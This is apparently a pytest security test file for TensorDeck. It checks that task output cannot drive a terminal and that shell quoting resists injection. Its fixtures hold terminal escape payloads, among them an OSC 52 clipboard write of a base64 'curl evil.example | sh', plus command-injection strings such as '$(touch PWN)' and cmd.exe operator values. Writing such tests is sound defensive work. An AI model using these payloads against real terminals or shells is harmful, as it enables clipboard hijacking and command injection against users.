"""Attacks (issue 11): what a task, a pasted log, a folder name or a config value can make
TensorDeck do to the user. Each is tried for real where it can be: a task printing terminal
escapes through ``tensordeck --run`` into a pipe and into a pseudo-terminal, fix commands run
by bash with a hostile interpreter folder, the exported blocks parsed and run, ``tensordeck
login`` against a plaintext keyring."""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from core.console import ConsoleSink
from core.doctor.explain import explain
from core.doctor.fixes import FixContext, UnsafeValue, make_finding, shell_word
from core.events import RunStopping, TaskOutput
from core.export import (
    cmd_lines,
    command_problems,
    commands_markdown,
    posix_lines,
    powershell_lines,
)
from core.export_command import export_command
from core.output import LineSplitter, plain, visible
from core.run_command import describe_plan
from core.secrets import MASK, is_secret_name, masked_env, shown_value
from tests.conftest import tensordeck, under_wine
from tests.shell_rules import cmd_line, cmd_set, crt_argv, powershell_tokens

ON_WINDOWS = sys.platform == "win32"
# POSIX quoting is checked by a POSIX bash (Windows' Git bash rewrites paths and arguments).
needs_bash = pytest.mark.skipif(ON_WINDOWS or shutil.which("bash") is None,
                                reason="needs bash on a POSIX system")

# --- the terminal relay ------------------------------------------------------------------------

#: What a task prints to drive the terminal: (case, bytes). Each is one line of output.
TERMINAL_ATTACKS = [
    ("OSC 52 clipboard (BEL)", b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"),
    ("OSC 52 clipboard (ST)", b"\x1b]52;c;Y3VybCBldmls\x1b\\"),
    ("OSC 0 window title", b"\x1b]0;pwned\x07"),
    ("OSC 2 window title", b"\x1b]2;pwned\x1b\\"),
    ("OSC 8 hyperlink", b"\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"),
    ("cursor up + erase line", b"\x1b[1A\x1b[2K"),
    ("erase display + home", b"\x1b[2J\x1b[H"),
    ("erase to end of line", b"\x1b[K"),
    ("cursor position", b"\x1b[10;1H"),
    ("save / restore cursor", b"\x1b7\x1b8"),
    ("alternate screen", b"\x1b[?1049h"),
    ("hide cursor", b"\x1b[?25l"),
    ("mouse tracking on", b"\x1b[?1000h"),
    ("keyboard mode (CSI > m, not SGR)", b"\x1b[>4;2m"),
    ("full reset (RIS)", b"\x1bc"),
    ("DCS request", b"\x1bP+q544e\x1b\\"),
    ("APC", b"\x1b_payload\x1b\\"),
    ("PM", b"\x1b^payload\x1b\\"),
    ("SOS", b"\x1bXpayload\x1b\\"),
    ("C1 CSI as UTF-8 (U+009B)", "\u009b2J".encode()),
    ("C1 OSC as UTF-8 (U+009D)", "\u009d0;pwned\u009c".encode()),
    ("C1 NEL as UTF-8 (U+0085)", "a\u0085[worker-1] fake".encode()),
    ("raw C1 bytes (not UTF-8)", b"\x9b2J\x9d0;t\x07"),
    ("BEL", b"ding\x07"),
    ("backspaces over text", b"ERROR\x08\x08\x08\x08\x08fine!"),
    ("bare CR over the prefix", b"ERROR: NaN loss\r[worker-1] fake"),
    ("vertical tab, form feed", b"a\x0bb\x0cc"),
    ("NUL, DEL", b"a\x00b\x7fc"),
    ("line separator U+2028", "ok\u2028[worker-1] fake".encode()),
    ("paragraph separator U+2029", "ok\u2029[worker-1] fake".encode()),
    ("bidi override U+202E", "\u202eexif ,ssol NaN".encode()),
    ("bidi isolate U+2066", "\u2066x\u2069".encode()),
    ("SGR conceal left on", b"\x1b[8mhidden from here on"),
    ("forged task prefix", b"[worker-1] fake"),
    ("forged TensorDeck line", b"tensordeck: run succeeded (exit code 0)"),
]
#: Colours pass, and are reset at the line's end.
COLOURED = b"\x1b[1;31mred\x1b[0m and \x1b[38;2;1;2;3mtrue colour"

_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
_SGR = re.compile(r"\x1b\[[0-9;:]*m")
_OWN_CLEAR_LINE = "\r\x1b[K"  # TensorDeck's own in-place progress line (a terminal only)


def assert_text_and_colours_only(out: str) -> None:
    """Nothing in ``out`` but text, line ends, TAB, SGR and TensorDeck's own progress redraw."""
    rest = _SGR.sub("", out.replace("\r\n", "\n").replace(_OWN_CLEAR_LINE, ""))
    found = _CONTROL.search(rest)
    assert found is None, (found, rest[max(0, found.start() - 40) : found.end() + 40])


def test_visible_passes_text_and_colours_and_shows_the_rest():
    assert visible("step 1 loss=0.5\tok") == "step 1 loss=0.5\tok"  # the fast path: untouched
    assert visible("\x1b[32mok\x1b[0m") == "\x1b[32mok\x1b[0m\x1b[0m"
    assert visible("\x1b]52;c;eA==\x07") == "\\x1b]52;c;eA==\\x07"
    assert visible("\u009b2J\u2028") == "\\u009b2J\\u2028"
    assert visible(visible("\x1b[1A")) == "\\x1b[1A"  # idempotent
    assert plain("\x1b[1mbold\x1b[0m \x1b[2J") == "bold \\x1b[2J"
    for case, data in TERMINAL_ATTACKS:
        assert_text_and_colours_only(visible(data.decode("utf-8", "replace"))), case


def relay(data: bytes, tty: bool) -> str:
    """``data`` through the splitter and the console sink, as a run relays it."""
    out = io.StringIO()
    out.isatty = lambda: tty  # type: ignore[method-assign]
    sink = ConsoleSink(out, ["worker:0", "worker:1"], color=tty)
    splitter = LineSplitter()
    lines, progress = splitter.feed(data)
    sink(TaskOutput(0.0, "worker:0", tuple(lines), progress))
    sink(TaskOutput(0.0, "worker:0", tuple(splitter.close())))
    sink(RunStopping(0.0, "task said \x1b]0;x\x07"))
    return out.getvalue()


@pytest.mark.parametrize("tty", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize(("case", "data"), TERMINAL_ATTACKS, ids=[c for c, _ in TERMINAL_ATTACKS])
def test_a_task_cannot_drive_the_terminal_or_forge_a_line(case, data, tty):
    out = relay(data + b"\n" + b"partial progress\r" + data, tty)
    assert_text_and_colours_only(out)
    lines = [line for line in _SGR.sub("", out).replace(_OWN_CLEAR_LINE, "\n").split("\n") if line]
    # Every line is the task's, under its own prefix, or TensorDeck's own: none is forged.
    assert all(line.startswith(("[worker-0] ", "tensordeck: ")) for line in lines), lines
    assert not any(line.startswith("[worker-1]") for line in lines)
    assert sum(line.startswith("tensordeck: ") for line in lines) == 1


def test_colours_pass_and_cannot_spill_into_the_next_line():
    out = relay(COLOURED + b"\n" + b"\x1b[8mconcealed\n", tty=False)
    assert "\x1b[1;31mred\x1b[0m and \x1b[38;2;1;2;3mtrue colour\x1b[0m\n" in out
    assert "[worker-0] \x1b[8mconcealed\x1b[0m\n" in out


def test_keras_and_tqdm_progress_still_redraw_in_place():
    splitter = LineSplitter()
    # Keras: a backspace run, then \r, written separately; tqdm: \r states.
    assert splitter.feed(b"1/3 [=>..]") == ([], None)
    assert splitter.feed(b"\x08" * 10) == ([], None)
    assert splitter.feed(b"\r2/3 [==>.]\x08\x08\x08") == ([], "2/3 [==>.]")
    assert splitter.feed(b"\r3/3 [====]\n 10%|#\r 100%|##|\n") == (["3/3 [====]", " 100%|##|"],
                                                                    None)
    assert splitter.feed(b"a\x08b\n") == (["a\x08b"], None)  # a stray one is shown, below
    assert visible("a\x08b") == "a\\x08b"


def _print_attacks_script() -> tuple[str, bytes]:
    payload = b"".join(data + b"\n" for _, data in TERMINAL_ATTACKS) + COLOURED + b"\n"
    return (
        "import sys\n"
        f"payload = {payload!r}\n"
        "sys.stdout.buffer.write(b'ERROR: NaN loss\\n')\n"
        "sys.stdout.buffer.write(b'\\x1b[1A\\x1b[2K[worker-0] run succeeded\\n')\n"
        "sys.stdout.buffer.write(payload)\n"
        "sys.stdout.buffer.write(b'step 1/2\\rstep 2/2\\n')\n"
        "sys.stdout.flush()\n"
    ), payload


def _attack_job(job, tmp_path: Path) -> tuple[Path, bytes]:
    script, payload = _print_attacks_script()
    return job(script, strategy="single", tasks=[{"role": "worker"}]), payload


def _check_relayed(out: str, run_dir: Path, payload: bytes) -> None:
    assert_text_and_colours_only(out)
    text = _SGR.sub("", out.replace("\r\n", "\n").replace(_OWN_CLEAR_LINE, "\n"))
    lines = [line for line in text.split("\n") if line]
    assert "[worker-0] ERROR: NaN loss" in lines  # not erased by the cursor-up that follows
    assert "[worker-0] \\x1b[1A\\x1b[2K[worker-0] run succeeded" in lines
    assert "[worker-0] step 2/2" in lines
    assert all(line.startswith(("[worker-0] ", "tensordeck: ")) for line in lines), lines
    # The log file keeps every byte as printed.
    log = (run_dir / "logs" / "worker-0.log").read_bytes().replace(b"\r\n", b"\n")
    assert payload in log


def test_a_real_task_cannot_drive_a_pipe_reader(job, tmp_path):
    """`tensordeck --run job.json | cat`: the reader is a pipe."""
    config, payload = _attack_job(job, tmp_path)
    result = tensordeck("--run", str(config), "--run-dir", str(tmp_path / "run"), "--no-doctor",
                        timeout=120)
    assert result.returncode == 0, result.stderr
    _check_relayed(result.stdout + result.stderr, tmp_path / "run", payload)


@pytest.mark.skipif(ON_WINDOWS, reason="a pseudo-terminal is POSIX (pty)")
def test_a_real_task_cannot_drive_a_terminal(job, tmp_path):
    import pty

    config, payload = _attack_job(job, tmp_path)
    main_fd, child_fd = pty.openpty()
    proc = subprocess.Popen(
        [sys.executable, "-m", "core", "--run", str(config), "--run-dir", str(tmp_path / "run"),
         "--no-doctor"],
        stdin=subprocess.DEVNULL, stdout=child_fd, stderr=child_fd,
        cwd=Path(__file__).parent.parent, env={**os.environ, "TERM": "xterm-256color"},
    )
    os.close(child_fd)
    chunks = []
    while True:
        try:
            chunk = os.read(main_fd, 65536)
        except OSError:  # EIO: the terminal's last writer is gone
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(main_fd)
    assert proc.wait(timeout=120) == 0
    out = b"".join(chunks).decode("utf-8", "replace")
    assert "\x1b[" in out  # a terminal: the prefixes are coloured
    _check_relayed(out, tmp_path / "run", payload)


# --- secrets -------------------------------------------------------------------------------------

SECRETS = {
    "WANDB_API_KEY": "wandb-0123456789abcdef",
    "HF_TOKEN": "hf_abcdefghijklmnop",
    "AWS_SECRET_ACCESS_KEY": "wJalrXUtnFEMI/K7MDENG/bPxRfiCY",
    "DB_PASSWORD": "correct horse battery staple",
    "my_passwd": "hunter2hunter2",
    "GITHUB_AUTH": "ghp_aaaaaaaaaaaaaaaaaaaa",
    "SSH_PRIVATE_KEY_PEM": "-----BEGIN KEY-----",
    "SERVICE_CREDENTIALS": "{\"k\": \"v-secret-v\"}",
}
PLAIN = {"GRPC_FAIL_FAST": "use_caller", "TF_CPP_MIN_LOG_LEVEL": "1",
         "TOKENIZERS_PARALLELISM": "false"}


def test_secret_names_and_masking():
    assert all(is_secret_name(name) for name in [*SECRETS, "apikey", "SlackToken", "auth"])
    assert not any(is_secret_name(name) for name in PLAIN)
    shown = masked_env({**SECRETS, **PLAIN, "EMPTY_TOKEN": ""})
    assert all(shown[name] == MASK for name in SECRETS) and shown["EMPTY_TOKEN"] == ""
    assert {name: shown[name] for name in PLAIN} == PLAIN
    assert shown_value("PIP_INDEX_URL", "https://me:pw@pypi.example/simple") == (
        f"https://me:{MASK}@pypi.example/simple")


def test_dry_run_masks_secrets_but_the_run_gets_them(job, tmp_path):
    check = ("import os, json; "
             f"print(json.dumps({{k: os.environ.get(k) for k in {list(SECRETS)!r}}}))")
    config = job(check, strategy="single", tasks=[{"role": "worker"}], env={**SECRETS, **PLAIN})
    dry = tensordeck("--run", str(config), "--dry-run", "--no-doctor")
    assert dry.returncode == 0, dry.stderr
    for name, value in SECRETS.items():
        assert f"  {name}={MASK}" in dry.stdout
        assert value not in dry.stdout + dry.stderr
    assert "  GRPC_FAIL_FAST=use_caller" in dry.stdout
    run = tensordeck("--run", str(config), "--run-dir", str(tmp_path / "run"), "--no-doctor")
    assert run.returncode == 0, run.stderr
    seen = json.loads(run.stdout.split("[worker-0] ", 1)[1].splitlines()[0])
    assert seen == SECRETS  # masking is for displays only
    resolved = json.loads((tmp_path / "run" / "config.json").read_text())
    assert resolved["config"]["env"]["HF_TOKEN"] == SECRETS["HF_TOKEN"]  # what ran


def test_describe_plan_shows_control_characters(tmp_path):
    from core.config import parse_config
    from core.topology import plan_run

    (tmp_path / "t.py").write_text("")
    plan = plan_run(parse_config({"name": "t", "strategy": "single", "script": "t.py"}),
                    tmp_path / "job.json")
    plan.release_ports()
    plan.tasks[0].env["NOTE"] = "\x1b]0;title\x07"
    plan.tasks[0].argv.append("\x1b[2J")
    text = describe_plan(plan)
    assert "\x1b" not in text and "NOTE=\\x1b]0;title\\x07" in text


# --- doctor fixes --------------------------------------------------------------------------------

#: Folder names that run `touch PWN` if a shell reads them unquoted (POSIX sh / bash).
HOSTILE_FOLDERS = ["x$(touch PWN)", "x`touch PWN`", "x;touch PWN;", "x&&touch PWN", "x|touch PWN",
                   "x'$(touch PWN)'", 'x"$(touch PWN)"', "x $(touch PWN) y", "x\\$(touch PWN)",
                   "$(id>PWN)", "x!!", "x*", "-x"]
#: Values cmd.exe would act on unquoted.
HOSTILE_CMD = [r"C:\x&calc\python.exe", r"C:\x|calc\python.exe", r"C:\x^&calc\python.exe",
               r"C:\x (y)\python.exe", r"C:\x>PWN\python.exe", r"C:\tf env\python.exe",
               r"C:\trailing\\"]
UNQUOTABLE_CMD = ['C:\\x"&calc\\python.exe', r"C:\100%PATH%\python.exe", r"C:\wow!x!\py.exe"]


def all_steps(ctx: FixContext):
    from core.doctor.fixes import _CATALOG

    for fid in _CATALOG:
        yield from make_finding(fid, "evidence", ctx).steps


@needs_bash
@pytest.mark.parametrize("value", [*HOSTILE_FOLDERS, "plain", "", "tab\there", "üñï 中文"])
def test_posix_words_reach_a_program_intact(value, tmp_path):
    line = f"printf '%s\\n' {shell_word(value, 'posix')}"
    out = subprocess.run(["bash", "-c", line], capture_output=True, text=True, cwd=tmp_path,
                         check=True).stdout
    assert out == value + "\n" and not (tmp_path / "PWN").exists()


@pytest.mark.parametrize("value", HOSTILE_CMD)
def test_cmd_words_are_one_argument_with_no_operator_outside_quotes(value):
    word = shell_word(value, "cmd")
    assert crt_argv(cmd_line(f"python.exe {word}", batch=False)) == ["python.exe", value]


@pytest.mark.parametrize("value", [*UNQUOTABLE_CMD, "a\nb", "a\rb", "\x1b[2J", "\u2028"])
def test_values_no_quoting_can_carry_are_refused(value):
    kinds = ["cmd"] if value in UNQUOTABLE_CMD else ["cmd", "posix", "powershell"]
    for kind in kinds:
        with pytest.raises(UnsafeValue):
            shell_word(value, kind)


def _stub_programs(folder: Path, names: set[str]) -> None:
    """Programs that only record how they were called (one argument per line)."""
    folder.mkdir(exist_ok=True)
    for name in names:
        stub = folder / name
        stub.write_text('#!/bin/sh\n{ printf "%s\\n" "$0"; printf "[%s]\\n" "$@"; } >> '
                        f'"{folder}/calls.log"\n')
        stub.chmod(0o755)


@needs_bash
@pytest.mark.parametrize("folder", HOSTILE_FOLDERS)
def test_every_fix_command_for_a_hostile_interpreter_folder_runs_nothing_else(folder, tmp_path):
    """The interpreter lives in a folder named like a shell command: every command of every
    fix, run by bash (as a user pasting it would), calls only its programs, with the path as
    one argument; the argument lists the window runs hold it unchanged."""
    exe_dir = tmp_path / folder
    exe_dir.mkdir()
    python = exe_dir / "python"
    stubs = tmp_path / "stubs"
    ctx = FixContext(platform="linux", tf_version=(2, 12), python_exe=str(python),
                     conda_env=folder, detail={"script": str(exe_dir / "train.py"),
                                               "port": "2222", "cuda": "11.8", "cudnn": "8.6"})
    steps = [s for s in all_steps(ctx) if s.command and s.shell in ("bash", "conda", "any")]
    words = {w for s in steps for line in s.command.splitlines() for w in line.split()[:1]}
    words |= {"sudo", "grep", "ss", "mkdir", "nvidia-smi", "conda", "tf_upgrade_v2", "tensordeck"}
    _stub_programs(stubs, {w for w in words if "/" not in w and w not in ("export", "echo")})
    shutil.copy(stubs / "conda", python)
    env = {"PATH": f"{stubs}:/usr/bin:/bin", "CONDA_PREFIX": str(tmp_path / "prefix"),
           "HOME": str(tmp_path)}
    ran = 0
    for step in steps:
        for line in step.command.splitlines():
            subprocess.run(["bash", "-c", line], cwd=tmp_path, env=env, capture_output=True,
                           timeout=30)
            ran += 1
        for argv in step.argv:  # what the window would run: the path is one argument
            assert argv[0] != str(python) or str(python) in argv
    assert ran > 10
    assert not list(tmp_path.rglob("PWN")), "a fix command ran code from the folder name"
    calls = (stubs / "calls.log").read_text()
    assert f"{python}\n[-c]\n" in calls or f"{python}\n[-m]\n" in calls  # the path, intact


@pytest.mark.parametrize("value", HOSTILE_CMD + UNQUOTABLE_CMD)
def test_windows_fix_commands_quote_the_interpreter_for_cmd(value):
    ctx = FixContext(platform="windows", tf_version=(2, 10), python_exe=value,
                     detail={"port": "2222"})
    for step in all_steps(ctx):
        if step.shell in ("cmd", "conda", "any") and step.command and value in " ".join(
                a for argv in step.argv for a in argv):
            for line, argv in zip(step.command.splitlines(), step.argv, strict=True):
                assert crt_argv(cmd_line(line, batch=False)) == list(argv), line
    # A value cmd cannot carry leaves the command out, never in unquoted.
    if value in UNQUOTABLE_CMD:
        commands = [s.command for s in all_steps(ctx) if s.command]
        assert not any(value in c for c in commands)


def test_a_hostile_conda_env_name_from_a_pasted_log_is_quoted(tmp_path):
    text = ("Could not load dynamic library 'libcudart.so.11.0'; dlerror: libcudart.so.11.0: "
            "cannot open shared object file: No such file or directory\n"
            "  File \"/home/me/miniconda3/envs/x$(touch${IFS}PWN)/lib/python3.10/site-packages/"
            "tensorflow/__init__.py\", line 1\n")
    findings = explain(text)
    conda = next(f for f in findings if f.id == "conda-env-not-activated")
    activate = next(s for s in conda.steps if s.command and "conda activate" in s.command)
    assert "conda activate 'x$(touch${IFS}PWN)'" in activate.command
    assert not activate.argv  # a template for an activated shell: never one click
    if shutil.which("sh") and not ON_WINDOWS:
        stubs = "conda() { printf '[%s]' \"$@\"; echo; }; python() { :; }; "
        out = subprocess.run(["sh", "-c", stubs + activate.command], cwd=tmp_path,
                             capture_output=True, text=True, timeout=30).stdout
        assert "[activate][x$(touch${IFS}PWN)]" in out and not (tmp_path / "PWN").exists()
    windows = explain(text.replace("/", "\\").replace("libcudart.so.11.0", "cudart64_110.dll"),
                           platform="windows")
    for finding in windows:
        for step in finding.steps:
            assert "x$(touch" not in (step.command or "") or '"x$(touch${IFS}PWN)"' in step.command


def test_doctor_explain_shows_the_escapes_of_a_pasted_log(tmp_path):
    log = tmp_path / "error.txt"
    log.write_bytes(b"ImportError: DLL load failed while importing _pywrap_tensorflow_internal: "
                    b"\x1b]52;c;Y3VybA==\x07\x1b[2J The specified module could not be found.\n")
    result = tensordeck("doctor", "--explain", str(log))
    assert "[missing-msvc-runtime]" in result.stdout
    assert "\\x1b]52;c;Y3VybA==\\x07\\x1b[2J" in result.stdout
    assert_text_and_colours_only(result.stdout + result.stderr)


def test_admin_and_reboot_steps_are_marked_and_not_runnable_as_programs():
    marked = []
    for platform in ("linux", "windows", "wsl"):
        for step in all_steps(FixContext(platform=platform, tf_version=(2, 12))):
            command = step.command or ""
            if re.search(r"\bsudo\b|wsl --install|winget install|advfirewall", command):
                assert step.admin, command
            if "reboot" in step.text or "reboot" in command:
                assert step.reboot or step.admin, step.text
            if step.admin or step.reboot:
                marked.append(command)
                assert step.argv == () or not step.admin
    assert len(marked) >= 6


def test_a_port_from_a_pasted_log_must_be_digits():
    step = make_finding("port-in-use", "x", FixContext(platform="linux",
                                                       detail={"port": "1;touch PWN"})).steps[0]
    assert "touch" not in step.command and step.argv == ()
    step = make_finding("port-in-use", "x", FixContext(platform="linux",
                                                       detail={"port": "23100"})).steps[0]
    assert step.argv == (("/bin/sh", "-c", "ss -ltnp | grep :23100"),)


# --- export --commands ---------------------------------------------------------------------------

INJECTED = ["$(touch PWNED)", "`touch PWNED`", "'; touch PWNED; '", '"; touch PWNED; "',
            "&& touch PWNED", "| touch PWNED", "a\ntouch PWNED", "a\n\ntouch PWNED #",
            "x & echo pwned > PWNED", "%COMSPEC% /c touch PWNED", "^& touch PWNED",
            "it's \u2019; touch PWNED; \u2018", "\\", "\\\\\"", "-c"]

DUMP = ("import json, os, sys\n"
        "print(json.dumps({'argv': sys.argv[1:], 'env': {k: v for k, v in os.environ.items() "
        "if k.startswith('TD_')}}))\n")


def _hostile_plan(tmp_path: Path):
    """A plan whose task gets INJECTED as arguments and variables. The config refuses line
    breaks itself, so those are put into the plan, as a derived value would be."""
    from core.config import parse_config
    from core.topology import plan_run

    (tmp_path / "dump.py").write_text(DUMP)
    env = {f"TD_{i}": value for i, value in enumerate(INJECTED)}
    one_line = [v for v in INJECTED if "\n" not in v]
    cfg = parse_config({"name": "t", "strategy": "single", "script": "dump.py",
                        "args": one_line, "env": {k: v for k, v in env.items() if "\n" not in v}})
    plan = plan_run(cfg, tmp_path / "job.json")
    plan.release_ports()
    task = plan.tasks[0]
    for argv in (task.argv, task.command):  # what this machine starts, and the task's own
        argv[len(argv) - len(one_line):] = INJECTED
    task.env.update(env)
    return plan, env


def _fenced(markdown: str, lang: str) -> list[str]:
    fence = re.compile(rf"^(`{{3,}}){lang}\n(.*?)\n\1$", re.S | re.M)
    return [m.group(2) for m in fence.finditer(markdown)]


@needs_bash
def test_the_posix_block_parses_and_runs_no_injected_command(tmp_path):
    plan, env = _hostile_plan(tmp_path)
    block = _fenced(commands_markdown(plan), "sh")[0]
    work = tmp_path / "work"
    work.mkdir()
    subprocess.run(["bash", "-n", "-c", block], check=True, timeout=30)
    out = subprocess.run(["bash", "-c", block], cwd=work, capture_output=True, text=True,
                         timeout=60, check=True).stdout
    got = json.loads(out)
    assert got["argv"] == INJECTED
    assert got["env"] == env
    assert not list(tmp_path.rglob("PWNED"))


def test_the_cmd_block_passes_every_value_literally_or_starts_nothing(tmp_path):
    plan, env = _hostile_plan(tmp_path)
    lines = cmd_lines(plan.tasks[0].env, plan.tasks[0].argv)
    # A newline cannot be written for cmd: the block starts nothing, and says why.
    assert len(lines) == 1 and lines[0].startswith("rem cmd cannot start this task")
    cmd_line(lines[0], batch=True)  # one line, no operator outside quotes
    one_line = [v for v in INJECTED if "\n" not in v]
    env = {**{k: v for k, v in plan.tasks[0].env.items() if "\n" not in v}, "TD_A": "x"}
    lines = cmd_lines(env, [*plan.tasks[0].argv[:2], *one_line])
    # Non-ASCII values: the batch file switches cmd to UTF-8 first.
    assert lines[:2] == ["chcp 65001 >nul", "setlocal DisableDelayedExpansion"]
    sets = dict(cmd_set(cmd_line(line, batch=True)) for line in lines[2:-1])
    assert sets == env
    assert crt_argv(cmd_line(lines[-1], batch=True))[2:] == one_line


def test_the_powershell_block_quotes_every_value(tmp_path):
    plan, env = _hostile_plan(tmp_path)
    block = "\n".join(powershell_lines(plan.tasks[0].env, plan.tasks[0].argv))
    statements: list[list[tuple[str, str]]] = [[]]
    for token in powershell_tokens(block):
        if token[0] == "nl":
            statements.append([])
        else:
            statements[-1].append(token)
    got_env, argv = {}, None
    for tokens in statements:
        words = [t for kind, t in tokens if kind == "word"]
        strings = [t for kind, t in tokens if kind == "str"]
        if words[0].startswith("$env:"):
            assert words[1:] == ["="] and len(strings) == 1
            got_env[words[0][5:]] = strings[0]
        else:
            assert words == ["&"]
            argv = strings
    assert {k: v for k, v in got_env.items() if k.startswith("TD_")} == env
    assert argv[2:] == INJECTED


@pytest.mark.skipif(not ON_WINDOWS, reason="runs the cmd block in cmd.exe (the Windows lane)")
def test_the_cmd_block_runs_in_cmd_without_injection(tmp_path):
    one_line = [v for v in INJECTED if "\n" not in v]
    assert cmd_lines({}, ["x", "it\u2019s"])[0] == "chcp 65001 >nul"  # UTF-8 batch files
    if under_wine():  # Wine's cmd ignores chcp and reads batch files as OEM text
        one_line = [v for v in one_line if v.isascii()]
    (tmp_path / "dump.py").write_text(DUMP)
    lines = cmd_lines({"TD_A": "x & echo pwned > PWNED"},
                      [sys.executable, str(tmp_path / "dump.py"), *one_line])
    script = tmp_path / "start.cmd"
    script.write_text("@echo off\r\n" + "\r\n".join(lines) + "\r\n", encoding="utf-8")
    out = subprocess.run(["cmd", "/d", "/c", str(script)], cwd=tmp_path, capture_output=True,
                         text=True, timeout=60).stdout
    assert json.loads(out)["argv"] == one_line
    assert not (tmp_path / "PWNED").exists()


@pytest.mark.parametrize(("field", "config"), [
    ("env.TD_X", {"env": {"TD_X": "\x1b]52;c;eA==\x07"}}),
    ("env.TD_X", {"env": {"TD_X": "a\rb"}}),
    ("args[1]", {"args": ["ok", "\x1b[2J"]}),
    ("args[0]", {"args": ["\u2028"]}),
])
def test_export_refuses_control_characters_naming_the_field(field, config, tmp_path, capsys):
    (tmp_path / "train.py").write_text("")
    job = tmp_path / "job.json"
    job.write_text(json.dumps({"name": "t", "strategy": "single", "script": "train.py", **config}))
    out = tmp_path / "commands.md"
    args = argparse.Namespace(file=str(job), kubeflow=None, commands=str(out), image=None)
    assert export_command(args) == 2
    err = capsys.readouterr().err
    assert field in err and not out.exists()
    assert "\x1b" not in err and "\r" not in err


def test_unsafe_derived_values_and_names_are_refused(tmp_path):
    plan, _ = _hostile_plan(tmp_path)
    assert command_problems(plan) == []
    plan.tasks[0].env["BAD\nNAME"] = "x"
    plan.tasks[0].env["A=B"] = "x"
    plan.tasks[0].argv.append("\x07")
    problems = command_problems(plan)
    assert [p.split(":")[0] for p in problems] == ["worker-0"]
    for make in (posix_lines, cmd_lines, powershell_lines):
        with pytest.raises(ValueError):
            make(plan.tasks[0].env, plan.tasks[0].argv)


# --- tensordeck login ----------------------------------------------------------------------------

def _login_job(tmp_path: Path) -> Path:
    (tmp_path / "t.py").write_text("")
    job = tmp_path / "job.json"
    job.write_text(json.dumps({
        "name": "pw", "strategy": "single", "script": "t.py",
        "nodes": {"lab2": {"host": "192.0.2.7", "user": "me", "python": "/usr/bin/python3",
                           "password": True}},
        "tasks": [{"role": "worker", "node": "lab2"}]}))
    return job


def test_login_refuses_a_plaintext_keyring_unless_allowed(tmp_path):
    pytest.importorskip("keyrings.alt")
    job = _login_job(tmp_path)
    data = tmp_path / "data"
    env = {**os.environ, "PYTHON_KEYRING_BACKEND": "keyrings.alt.file.PlaintextKeyring",
           "XDG_DATA_HOME": str(data), "LOCALAPPDATA": str(data)}  # its folder, off Windows / on
    env.pop("TENSORDECK_ALLOW_PLAINTEXT_KEYRING", None)
    refused = tensordeck("login", str(job), "lab2", "--password-stdin", input="s3cret-pw\n",
                         env=env)
    assert refused.returncode == 1
    assert "in the clear" in refused.stderr and "TENSORDECK_ALLOW_PLAINTEXT_KEYRING=1" in (
        refused.stderr)
    assert not [p for p in data.rglob("*") if p.is_file()]  # nothing written
    allowed = tensordeck("login", str(job), "lab2", "--password-stdin", input="s3cret-pw\n",
                         env={**env, "TENSORDECK_ALLOW_PLAINTEXT_KEYRING": "1"})
    assert allowed.returncode == 0, allowed.stderr
    assert [p for p in data.rglob("*") if p.is_file()]  # the file the refusal kept away


def test_login_refuses_a_keyring_that_stores_nothing(tmp_path):
    env = {**os.environ, "PYTHON_KEYRING_BACKEND": "keyring.backends.null.Keyring",
           "TENSORDECK_ALLOW_PLAINTEXT_KEYRING": "1"}
    result = tensordeck("login", str(_login_job(tmp_path)), "lab2", "--password-stdin",
                        input="pw\n", env=env)
    assert result.returncode == 1 and "stores nothing" in result.stderr


def test_a_chain_of_keyrings_is_judged_by_the_one_that_stores():
    from keyring.backends import chainer, null

    from core.remote.commands import store_problem

    class Chain(chainer.ChainerBackend):
        backends = (null.Keyring(),)

    assert "stores nothing" in store_problem(Chain())
    assert store_problem(object()) is None
